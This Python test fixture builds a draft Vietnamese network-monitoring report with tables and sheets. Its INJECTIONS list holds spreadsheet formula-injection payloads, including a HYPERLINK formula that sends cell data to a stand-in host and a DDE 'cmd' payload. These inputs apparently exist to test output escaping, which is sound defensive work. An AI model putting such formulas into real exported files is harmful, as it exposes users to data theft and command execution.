"""A hand-made document whose cells are of every kind, with what people and attackers put into texts."""

from monitor.official import bare_ratio, hundredths, points, short_span
from monitor.report.document.model import (
    Appendix,
    Cell,
    CellKind,
    Column,
    Document,
    Heading,
    RowLevel,
    Table,
    TableRow,
)

AT = 1_795_000_000.0
INJECTIONS = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "＝1+1",
    "'=1+1",
    'nói "có", rồi thôi; hết',
    "https://x.example",
    "một\nhai",
    "12345678901234567890",
    "\ud800lẻ\ufffe",
)

COLUMNS = (
    Column("name", "Xã, phường, đặc khu", 42),
    Column("line_ratio", "TSLCD (%)", 18, CellKind.RATIO, target_ratio=0.995),
    Column("change", "± tháng trước", 16, CellKind.POINTS),
    Column("outages", "Số lượt", 14, CellKind.COUNT),
    Column("down_s", "Tổng thời gian", 22, CellKind.DURATION),
    Column("began_at", "Bắt đầu", 22, CellKind.MOMENT),
    Column("loss_ratio", "Mất gói TB", 16, CellKind.RATIO),
    Column("ports", "Số cổng", 16, CellKind.NUMBER),
)


def row(
    name: str,
    ratio: float | None,
    before: float | None,
    outages: int,
    down_s: float,
    at: float | None,
    level: RowLevel = RowLevel.DATA,
) -> TableRow:
    change = None if ratio is None or before is None else (hundredths(ratio) - hundredths(before)) / 10_000
    return TableRow(
        (
            Cell(name, name),
            Cell(bare_ratio(ratio, missing="không đủ dữ liệu"), ratio, CellKind.RATIO, is_bold=ratio == 0.9),
            Cell(points(ratio, before), change, CellKind.POINTS),
            Cell(f"{outages:02d}", outages, CellKind.COUNT),
            Cell(short_span(down_s), down_s, CellKind.DURATION),
            Cell("–" if at is None else "02:47 21/11", at, CellKind.MOMENT),
            Cell("0,12%", 0.0012, CellKind.RATIO),
            Cell("12,5", 12.5, CellKind.NUMBER),
        ),
        level,
    )


def table(*rows: TableRow, sheet: str = "Theo xã", identity: str = "communes") -> Table:
    return Table(identity, "Bảng 1. Các xã", COLUMNS, rows, ("(1) Ghi chú một.",), sheet)


COMMUNES = table(
    TableRow((Cell("Huyện Ba Tơ (cũ)"),), RowLevel.GROUP),
    row("Ba Tơ", 0.99996, 1.0, 2, 4_738.9, AT + 59.9),
    row("Ba Tô", 0.9, 0.8, 12, 60 * 60 * 27, AT),
    row("Đăk Rơ Wa", None, 0.99, 0, 0.0, None),
    row("Cộng", 0.95, 0.95, 14, 4_738.9 + 60 * 60 * 27, AT, RowLevel.TOTAL),
)
TEXTS = Table(
    "texts",
    "=1+1",
    (Column("text", "@Chữ", 40), Column("note", "Ghi chú", 40)),
    tuple(TableRow((Cell(text, text), Cell("xong"))) for text in INJECTIONS),
    sheet="theo XÃ",
)
UNSHEETED = Table("small", "Bảng 2. Không vào bảng tính", COLUMNS[:1], (TableRow((Cell("x"),)),))
EMPTY = Table("none", "Bảng 3. Không có gì", COLUMNS, (), sheet="History")
LONG = table(sheet="Sự cố [từ 60 phút]: đường truyền / thiết bị", identity="long")
LONG_TOO = table(sheet="Sự cố [từ 60 phút]: đường truyền / phần mềm", identity="long2")

DOCUMENT = Document(
    id="BC-thu",
    name="BÁO CÁO",
    subject="Kết quả giám sát tháng 11 năm 2026",
    head=None,
    addressees=(),
    opening="",
    blocks=(Heading(1, "1. Kết quả"), COMMUNES, UNSHEETED),
    closing="",
    recipients=(),
    signature=None,
    appendices=(Appendix("I", "Các xã", (COMMUNES, TEXTS)),),
    sheets=(EMPTY, LONG, LONG_TOO, COMMUNES),
    mark="BẢN NHÁP",
    made_at=AT,
    digest="ab" * 32,
    properties=(("author", "Sở Khoa học và Công nghệ"), ("Kỳ", "2026-11")),
)
